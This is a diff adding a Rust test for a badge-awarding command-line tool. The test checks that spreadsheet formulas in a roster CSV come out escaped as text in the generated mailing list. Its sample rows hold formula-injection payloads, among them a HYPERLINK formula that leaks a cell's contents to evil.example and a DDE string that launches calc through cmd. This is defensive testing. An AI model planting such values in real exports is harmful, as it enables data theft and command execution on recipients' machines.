@@ -312,3 +312,46 @@ fn award_cli_prints_the_page_and_a_message_and_revoke_cli_round_trips() {
     let usage = rosette(&["award", "team-player", "--site", dir, "--roster", "x.csv"]);
     assert_eq!(usage.status.code(), Some(2), "a roster needs --mailing-list");
 }
+
+#[test]
+fn award_roster_formulas_reach_the_mailing_list_as_text() {
+    let (work, site) = golden_copy();
+    let roster = work.path().join("roster.csv");
+    let rows = [
+        ("=1+1@example.org", "=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")"),
+        ("mallory@example.org", "@SUM(1+1)"),
+        ("+x@example.org", "+cmd|' /C calc'!A0"),
+        ("-y@example.org", "-2+3"),
+        ("plain@example.org", "Ada Lovelace"),
+    ];
+    let text: String = rows.iter().map(|(email, name)| format!("\"{email}\",\"{name}\"\n")).collect();
+    fs::write(&roster, format!("email,name\n{text}")).unwrap();
+    let list = work.path().join("mailing.csv");
+    let args = ["award", "first-program", "--site", site.to_str().unwrap(), "--roster", roster.to_str().unwrap()];
+    let output = Command::new(env!("CARGO_BIN_EXE_rosette"))
+        .args(args)
+        .args(["--mailing-list", list.to_str().unwrap()])
+        .env("SOURCE_DATE_EPOCH", "1795737600")
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    let mut mailing = csv::Reader::from_path(&list).unwrap();
+    let cells: Vec<(String, String)> =
+        mailing.records().map(Result::unwrap).map(|r| (r[0].to_string(), r[1].to_string())).collect();
+    assert_eq!(
+        cells,
+        [
+            ("'=1+1@example.org", "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"),
+            ("mallory@example.org", "'@SUM(1+1)"),
+            ("'+x@example.org", "'+cmd|' /C calc'!A0"),
+            ("'-y@example.org", "'-2+3"),
+            ("plain@example.org", "Ada Lovelace"),
+        ]
+        .map(|(email, name)| (email.to_string(), name.to_string()))
+    );
+    // Nothing in the file starts a cell with a formula character, quoted or not.
+    let raw = fs::read_to_string(&list).unwrap();
+    for start in [",=", ",+", ",-", ",@", "\n=", "\n+", "\n-", "\n@", ",\"=", ",\"+", ",\"-", ",\"@", "\n\"="] {
+        assert!(!raw.contains(start), "a cell starts with {start:?}:\n{raw}");
+    }
+}
